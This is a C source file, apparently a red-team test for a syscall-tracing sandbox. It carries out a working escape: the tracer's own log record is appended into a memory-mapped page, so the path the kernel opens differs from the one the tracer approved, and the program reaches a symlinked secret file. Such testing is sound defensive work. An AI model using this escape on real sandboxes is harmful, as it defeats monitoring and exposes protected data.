/* log_tail_open.c: a path in the tail of the run's own --log, to which the tracer appends the
 * open's own decision record between its read of the path and the kernel's (red team 55).
 *
 * usage: log_tail_open LOG SECRET TRIES      (cwd: a directory the program may write)
 *
 * A decision a rule made is logged (--log FILE), and its record is written on the tracer's
 * thread before the call is resumed.  The program maps the last page of LOG (MAP_PRIVATE,
 * read-only: a clean page shows the file's page cache, so every append to it) with an
 * anonymous page of its own right after it, and opens the last three bytes of the log's text
 * (the end of the last record: `}}` and a newline) as a relative path: the tracer reads that
 * name -- the page past the file's end reads as zeros -- a decoy file the program made, which
 * the rule permits, and logs the decision: the record lands in the mapped page.  When the
 * log's size ends 1..12 bytes before a page's end, the kernel then reads the name with the
 * record's first bytes -- `{"time":17` and so on, known -- up to the page's end, and the zeros
 * of the anonymous page after it: a symlink the program made there, to SECRET.
 * The log grows by opens of names below the cwd that do not exist (permitted by the rule,
 * logged: ENOENT) until its size lands in the window: a record's length is a line in the
 * name's (measured from two), so the name's length that lands it is known.
 *
 * NATIVE=1 (the control): no tracer writes the log; the program writes the records itself
 * (the same first bytes at the same place), proving the kernel reads the longer name through
 * the mapping and opens the secret.
 *
 * RECORDED=1 (red team 56): LOG is not the tracer's log but a recorder's copy of it -- the
 * log goes to a terminal (`systrace -e`) that `script -f LOG` records: each record the tracer
 * writes while deciding lands in LOG a few microseconds later (the recorder's read of the
 * master and its write).  LOG's size is read once it stops growing (the copy is
 * asynchronous: log_tail.h's settles), and the open is made as SCHED_IDLE (any user may ask
 * it for itself, and go back): resumed after its decision, the program runs only once the
 * recorder (and the kworker that moves a pty's bytes to its master) have nothing left to do,
 * so the copy comes first.
 *
 * ESCAPED: an open gave the secret; BLOCKED: never.
 */
#include "attack.h"

#include <sched.h>

#include "log_tail.h"

#define TAIL 3    /* bytes of the log's text the name takes */
#define ROOM 12   /* the most of the next record's first bytes the window takes */

int main(int argc, char **argv) {
    settles = getenv("RECORDED") != NULL;
    struct log_tail t = log_tail_start(argc, argv);
    const char *secret = argv[2];
    int tries = atoi(argv[3]);
    int fd = t.fd;
    long page = t.page, a = t.a, c = t.c;
    char *area = t.area;
    int attempts = 0, decoys = 0;
    unsigned missed = 0;  /* pads since the last try: past 40, lengths of their own */
    for (unsigned n = 0; n < (unsigned)tries * 200 && attempts < tries; n++) {
        off_t size = log_size(fd);
        off_t used = size % page, room = page - used;
        if (used < TAIL || room > ROOM) {
            pad_toward(room - ROOM / 2, a, c, n, &missed);
            continue;
        }
        char tail[TAIL + 1];
        if (pread(fd, tail, TAIL, size - TAIL) != TAIL)
            blocked("pread of the log: %s", ename(errno));
        tail[TAIL] = 0;
        if (memchr(tail, '/', TAIL) || strlen(tail) != TAIL || !strcmp(tail + 1, "..")) {
            pad(MIN_PAD + n % 7);
            continue;
        }
        /* the decoy at the tail's name; the symlink at the tail's name and the record's
         * first bytes, as many as the page has room for */
        char start[64], longer[64];
        record_start(start, sizeof start);
        snprintf(longer, sizeof longer, "%s%.*s", tail, (int)room, start);
        unlink(tail);
        unlink(longer);
        int decoy = open(tail, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        if (decoy < 0 || write(decoy, "decoy\n", 6) != 6)
            blocked("the decoy: %s", ename(errno));
        close(decoy);
        if (symlink(secret, longer) != 0)
            blocked("symlink: %s", ename(errno));
        if (log_size(fd) != size)  /* (a record of the decoy's create or the symlink) */
            continue;
        attempts++;
        missed = 0;
        if (mmap(area, page, PROT_READ, MAP_PRIVATE | MAP_FIXED, fd, size - used) == MAP_FAILED)
            blocked("mmap of the log: %s", ename(errno));
        if (native && write(logw, start, strlen(start)) != (ssize_t)strlen(start))
            blocked("write of the log: %s", ename(errno));
        struct sched_param param = {0};
        if (settles)
            sched_setscheduler(0, SCHED_IDLE, &param);  /* (the recorder's copy first) */
        int got = open(area + used - TAIL, O_RDONLY | O_CLOEXEC);
        int err = errno;
        if (settles)
            sched_setscheduler(0, SCHED_OTHER, &param);
        if (got >= 0) {
            char buf[256] = {0};
            ssize_t r = read(got, buf, sizeof buf - 1);
            close(got);
            if (r > 0 && strstr(buf, SECRET_MAGIC))
                escaped("read the secret through the log's last %d bytes and the first %d of"
                        " the open's own record (try %d)", TAIL, (int)room, attempts);
            decoys++;
        } else {
            note("try %d: open: %s", attempts, ename(err));
        }
        if (native && write(logw, "1}\n", 3) != 3)
            blocked("write of the log: %s", ename(errno));
        mmap(area, page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED, -1, 0);
    }
    blocked("no open gave the secret (%d tries, %d the decoy)", attempts, decoys);
}
